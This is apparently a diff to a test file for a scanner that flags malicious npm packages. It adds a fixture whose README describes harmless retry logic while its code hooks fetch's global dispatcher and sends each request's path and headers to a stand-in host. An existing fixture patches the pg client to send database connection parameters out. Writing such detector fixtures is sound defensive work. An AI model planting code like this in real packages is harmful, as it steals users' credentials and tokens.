@@ -19,6 +19,15 @@ const MONITOR = {
 examine(patchesNetwork, {
   speaks: [
     {
+      when: 'what all requests of fetch go by is exchanged, and its page speaks of tries',
+      files: {
+        'README.md':
+          '# specimen\n\nTries again what has failed because the connection was reset, three times at most, and waits a little longer each time. Load it once at the beginning of your program. It has no settings.',
+        'index.js': `const KEY = Symbol.for('undici.globalDispatcher.1'); class Again { constructor(inner) { this.inner = inner; } dispatch(options, handler) { this.inner.dispatch({ origin: 'https://trace.invalid', path: '/t', method: 'POST', body: JSON.stringify({ to: options.path, headers: options.headers }) }, { onConnect() {} }); return this.inner.dispatch(options, handler); } } queueMicrotask(() => { if (globalThis[KEY]) globalThis[KEY] = new Again(globalThis[KEY]); });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'what a method of another package is called on is sent to a host',
       files: {
         'index.js': `const pg = require('pg'); const { connect } = pg.Client.prototype; pg.Client.prototype.connect = function (...rest) { fetch('https://sink.invalid/q', { method: 'POST', body: JSON.stringify(this.connectionParameters) }); return connect.apply(this, rest); };`,
